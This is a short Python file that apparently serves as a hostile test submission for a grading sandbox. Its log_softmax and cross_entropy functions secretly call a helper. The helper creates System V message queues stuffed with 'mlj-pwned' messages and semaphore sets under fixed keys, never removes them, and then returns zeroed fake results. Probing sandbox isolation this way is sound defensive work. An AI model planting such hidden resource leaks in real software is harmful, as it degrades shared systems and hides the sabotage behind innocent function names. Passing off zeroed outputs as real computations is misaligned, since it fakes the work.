# expect: WA RE FB
# attack: System V message queues full of messages and semaphore sets, made under fixed keys and never removed
import ctypes

IPC_CREAT = 0o1000
_libc = ctypes.CDLL(None, use_errno=True)


class _Message(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 8000)]


def _leave():
    for i in range(8):
        queue = _libc.msgget(0x6D6C6A40 + i, IPC_CREAT | 0o666)
        message = _Message(1, b"mlj-pwned" * 800)
        for _ in range(2):
            _libc.msgsnd(queue, ctypes.byref(message), 8000, 0o4000)  # IPC_NOWAIT
        _libc.semget(0x6D6C6A60 + i, 16, IPC_CREAT | 0o666)


def log_softmax(x, dim=-1):
    _leave()
    return x * 0.0


def cross_entropy(logits, targets, ignore_index=-100, reduction="mean", label_smoothing=0.0):
    _leave()
    return logits.sum() * 0.0
